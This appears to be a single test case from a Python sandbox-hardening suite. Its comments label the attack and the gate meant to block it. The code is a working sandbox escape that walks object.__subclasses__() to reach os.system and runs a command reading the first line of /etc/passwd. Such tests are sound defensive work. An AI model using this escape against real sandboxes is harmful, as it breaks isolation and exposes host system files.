# attack: the classic object.__subclasses__() walk to os.system
# covers: subclasses
# gate: banned_attribute __subclasses__
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
classes = ().__class__.__bases__[0].__subclasses__()
wrap_close = [cls for cls in classes if cls.__name__ == "_wrap_close"][0]
system = wrap_close.__init__.__globals__["system"]
print("system() returned", system("head -1 /etc/passwd 2>&1"))
